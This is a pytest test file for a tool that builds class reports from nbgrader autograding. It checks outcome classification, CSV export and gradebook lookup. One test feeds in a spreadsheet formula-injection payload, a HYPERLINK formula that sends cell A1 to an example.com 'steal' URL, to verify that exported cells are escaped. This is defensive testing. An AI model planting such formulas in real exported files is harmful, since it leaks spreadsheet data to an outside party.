"""Does the class report tell passed, wrong, not attempted and could-not-run apart, on any course directory?

The graded course of ``conftest.py`` (stock ``nbgrader autograde``) gives real
outputs for every assignment; hand-made cells cover the rarer outcomes.
"""

import csv
import shutil

import pytest
from nbformat.v4 import new_code_cell, new_output

from graders.cli import main
from graders.exercises import ASSIGNMENTS, exercises
from graders.notebook_build import ROOT
from graders.outcomes import COULD_NOT_RUN, NOT_ATTEMPTED, PASSED, WRONG, ExerciseOutcome, classify_test
from graders.outcomes import TestOutcome as CellOutcome  # not named Test*: pytest would try to collect it
from graders.report import AssignmentResults, ClassResults, Submission, collect, write_csv
from graders.report.page import render


@pytest.mark.parametrize("assignment", ASSIGNMENTS)
def test_each_submission_gets_its_outcomes_and_mistake(graded, wrong_choices, assignment):
    wrong, mistake = wrong_choices[assignment]
    results = collect(graded, [assignment]).assignments[0]
    by_student = {s.student: {e.name: e for e in s.exercises} for s in results.submissions}
    assert {e.outcome for e in by_student["reference"].values()} == {PASSED}
    assert {e.outcome for e in by_student["untouched"].values()} == {NOT_ATTEMPTED}
    for name, outcome in by_student["one-wrong"].items():
        assert outcome.outcome == (WRONG if name == wrong.name else PASSED), name
    assert mistake.name in by_student["one-wrong"][wrong.name].mistakes  # another test may name another one
    assert (mistake.name, mistake.message, ["one-wrong"]) in results.mistakes(wrong.name)


def _test_cell(outputs, grade_id="test_f"):
    cell = new_code_cell("check(...)", metadata={"nbgrader": {"grade": True, "grade_id": grade_id, "points": 2}})
    cell.outputs = outputs
    return cell


def _error(ename, evalue):
    return new_output("error", ename=ename, evalue=evalue, traceback=[])


@pytest.mark.parametrize(("outputs", "expected", "says"), [
    ([new_output("stream", name="stdout", text="f: all 3 cases passed.\n")], PASSED, "all 3 cases"),
    ([_error("NotImplementedError", "f is not implemented yet.")], NOT_ATTEMPTED, "not implemented"),
    ([_error("CheckFailed", "f on x: returned 1; expected 2. Likely mistake (off by one): add one.")], WRONG,
     "Likely mistake"),
    ([_error("CheckFailed", "f on x: raised NameError: name 'f' is not defined - run the cell that defines it.")],
     COULD_NOT_RUN, "the cell that defines it raised SyntaxError"),
    ([_error("NameError", "name 'f' is not defined")], COULD_NOT_RUN, "so it was never defined"),  # stock nbgrader
    ([_error("KernelDied", "the kernel stopped while running this cell")], COULD_NOT_RUN, "KernelDied"),
    ([_error("NotRun", "not run: the notebook used up its time limit")], COULD_NOT_RUN, "time limit"),
    ([new_output("stream", name="stdout", text="f: passed\n"), _error("NameError", "name 'data' is not defined")],
     WRONG, "a public test failed: NameError"),
    ([new_output("stream", name="stdout", text="f: passed\n"),
      _error("PublicTestFailed", "f(1) returned 2; expected 3")],
     WRONG, "a public test failed: f(1) returned 2; expected 3"),  # the student runtime's paragraph, as it is
])
def test_a_test_cell_is_classified_by_its_outputs(outputs, expected, says):
    result = classify_test(_test_cell(outputs), None, 2.0, ["off by one"], "SyntaxError: expected ':'")
    assert result.outcome == expected
    assert says in result.message
    assert result.mistake == ("off by one" if "Likely mistake" in says else None)


def test_a_course_with_no_submissions_gets_an_empty_report(tmp_path, capsys):
    shutil.copytree(ROOT / "source", tmp_path / "source")
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    results = collect(tmp_path)
    assert [r.assignment for r in results.assignments] == list(ASSIGNMENTS)
    assert all(not r.submissions for r in results.assignments)
    html = render(results, tmp_path)
    assert "No submissions have been graded yet" in html and "<svg" not in html
    assert main(["report", "--course", str(tmp_path), "--html", str(tmp_path / "r.html"),
                 "--csv", str(tmp_path / "r.csv")]) == 0
    assert (tmp_path / "r.csv").read_text().splitlines() == [
        "assignment,student,exercise,outcome,score,max_score,mistake,diagnosis"]
    assert not (tmp_path / "gradebook.db").exists(), "the report must not create a gradebook"
    assert "0 submission(s)" in capsys.readouterr().out


def test_a_db_url_gradebook_is_read_where_the_config_points(graded, tmp_path):
    elsewhere = tmp_path / "server"
    elsewhere.mkdir()
    shutil.copy(graded / "gradebook.db", elsewhere / "grades.sqlite")
    course = tmp_path / "course"
    shutil.copytree(graded / "autograded" / "one-wrong", course / "autograded" / "one-wrong")
    shutil.copy(graded / "nbgrader_config.py", course)
    with open(course / "nbgrader_config.py", "a") as config:
        config.write(f"\nc.CourseDirectory.db_url = 'sqlite:///{elsewhere / 'grades.sqlite'}'\n")
    moved = collect(course, ["ch03_loss_functions"]).assignments[0]
    original = collect(graded, ["ch03_loss_functions"]).assignments[0]
    assert [(s.student, s.score) for s in moved.submissions] == [(s.student, s.score) for s in original.submissions]
    notes = {s.student: s.note for s in moved.submissions}
    assert notes["one-wrong"] == "" and "not found" in notes["reference"], "without a notebook, only the points"
    assert not (course / "gradebook.db").exists()


def test_csv_has_one_row_per_student_and_exercise(graded, wrong_choices, tmp_path):
    results = collect(graded, ["ch03_loss_functions"])
    write_csv(results, tmp_path / "r.csv")
    rows = list(csv.DictReader(open(tmp_path / "r.csv")))
    assert len(rows) == len(results.students) * len(exercises("ch03_loss_functions"))  # everyone in the gradebook
    missing = set(results.assignments[0].missing)
    assert {r["student"] for r in rows if r["outcome"] == "not submitted"} == missing
    wrong, mistake = wrong_choices["ch03_loss_functions"]
    row = next(r for r in rows if r["student"] == "one-wrong" and r["exercise"] == wrong.name)
    assert (row["outcome"], row["mistake"], row["score"]) == (WRONG, mistake.name, "0")
    assert mistake.message in row["diagnosis"]


def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path):
    """A learner's exception message quoted in a diagnosis (or an odd student id) is kept as text."""
    name = exercises("ch03_loss_functions")[0].name
    quoted = '=HYPERLINK("https://example.com/steal?"&A1, "click")'
    test = CellOutcome(f"test_{name}", NOT_ATTEMPTED, 0.0, 2.0, quoted)
    results = ClassResults([AssignmentResults("ch03_loss_functions", [
        Submission("@student", [ExerciseOutcome(name, (test,))])])], ["@student"])
    write_csv(results, tmp_path / "r.csv")
    row = next(csv.DictReader(open(tmp_path / "r.csv")))
    assert (row["student"], row["diagnosis"], row["score"]) == ("'@student", "'" + quoted, "0")


def test_unknown_assignment_is_a_clear_error(graded, capsys):
    assert main(["report", "--course", str(graded), "ch99_nothing"]) == 2
    assert "unknown assignment 'ch99_nothing'; known: ch02_bias_variance" in capsys.readouterr().out


def test_falling_behind_names_low_averages_and_missing_work(graded):
    results = collect(graded, ["ch02_bias_variance", "ch03_loss_functions"])
    behind = {student: reasons for student, _, reasons in results.behind()}
    assert behind["untouched"] == ["average 0%"]
    assert "warns" in behind and "no submission for ch02_bias_variance" in behind["warns"][-1]
    assert "reference" not in behind and "one-wrong" not in behind
    assert ClassResults([], []).behind() == []
